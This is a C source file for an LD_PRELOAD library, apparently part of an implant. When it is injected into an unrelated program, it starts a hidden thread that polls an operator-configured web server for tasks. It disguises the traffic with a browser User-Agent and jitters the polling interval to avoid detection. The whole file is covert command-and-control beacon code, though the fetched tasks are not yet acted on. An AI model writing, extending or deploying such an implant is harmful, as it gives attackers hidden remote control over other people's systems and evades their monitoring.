/*
 * preload: loaded into a program that has no business with a network (LD_PRELOAD), it asks a web server for tasks from a
 * thread of its own: PRELOAD_ADDRESS, PRELOAD_PORT, every PRELOAD_SECONDS give or take a fifth. The program goes on with
 * its own work.
 */
#include "implant.h"
#include <pthread.h>

static const char request[] = "GET /tasks HTTP/1.0\r\nUser-Agent: Mozilla/5.0\r\n\r\n";

static void ask(void)
{
  char answer[4096];
  int fd = connect_to(SOCK_STREAM, getenv("PRELOAD_ADDRESS"), getenv("PRELOAD_PORT"));
  if (fd < 0) return;
  if (send(fd, request, sizeof request - 1, MSG_NOSIGNAL) > 0)
    while (recv(fd, answer, sizeof answer, 0) > 0) continue;
  close(fd);
}

static void *beacon(void *unused)
{
  unsigned seed = 1;
  double mean = strtod(getenv("PRELOAD_SECONDS"), NULL);
  for (;;) {
    ask();
    double nap = mean * (0.8 + 0.4 * rand_r(&seed) / RAND_MAX);
    nanosleep(&(struct timespec){ (time_t)nap, (long)((nap - (double)(time_t)nap) * 1e9) }, NULL);
  }
  return unused;
}

__attribute__((constructor)) static void begin(void)
{
  pthread_t thread;
  if (getenv("PRELOAD_ADDRESS") && getenv("PRELOAD_PORT") && getenv("PRELOAD_SECONDS"))
    pthread_create(&thread, NULL, beacon, NULL);
}
